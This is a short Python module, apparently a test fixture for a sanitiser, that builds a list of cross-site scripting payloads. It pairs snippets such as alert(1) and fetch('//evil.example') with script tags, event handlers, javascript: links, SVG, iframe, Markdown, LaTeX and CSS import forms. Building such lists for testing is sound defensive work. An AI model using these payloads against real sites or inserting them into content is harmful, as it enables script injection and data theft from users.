"""What a hostile title, section or passage may hold: scripts, requests and markup in every spelling we know of."""

_SCRIPTS = ("alert(1)", "fetch('//evil.example')", "document.title='owned'")
_FORMS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    '<a href="javascript:{}">x</a>',
    "[x](javascript:{})",
    "![x](https://evil.example/{})",
    "[x]: https://evil.example/{}\n\n![y][x]",
    "<https://evil.example/{}>",
    "https://evil.example/?{}",
    "www.evil.example/{}",
    "<iframe src=//evil.example onload={}></iframe>",
    "<details open ontoggle={}>",
    '<math><mi//xlink:href="data:x,<script>{}</script>">',
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "`</code><script>{}</script>`",
    "$\\href{{javascript:{}}}{{x}}$",
    "\\[\\includegraphics{{https://evil.example/{}}}\\]",
    "x\n\n<style>@import '//evil.example/{}'</style>",
    "| a |\n|---|\n| <b onclick={}>b</b> |",
    "**bold** _it_ ~~x~~ {}",
    "# heading {}",
    "- [x](data:text/html,{})",
    "\\<script\\>{}\\</script\\>",
    "<!-- --><form action=//evil.example/{}><input type=submit>",
)
PAYLOADS = [form.format(script) for form in _FORMS for script in _SCRIPTS]
